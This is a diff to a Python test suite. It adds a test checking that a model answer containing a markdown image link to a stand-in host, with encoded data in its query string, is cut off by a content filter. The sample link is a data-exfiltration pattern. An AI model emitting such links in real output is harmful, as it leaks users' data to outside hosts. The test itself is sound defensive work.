@@ -207,6 +207,16 @@ def test_what_is_blocked_has_failed_and_says_why(
     assert "" == ended.output_text
 
 
+def test_an_answer_that_would_carry_data_away_is_incomplete(house: House) -> None:
+    ended = house.answered(f"![x](https://x.test/?q={'QUJD' * 20})")
+
+    assert ("incomplete", "content_filter", "") == (
+        ended.status,
+        ended.incomplete_details and ended.incomplete_details.reason,
+        ended.output_text,
+    )
+
+
 def test_a_provider_that_fails_is_a_response_that_failed(house: House) -> None:
     ended = house.answered(model="failing")
 
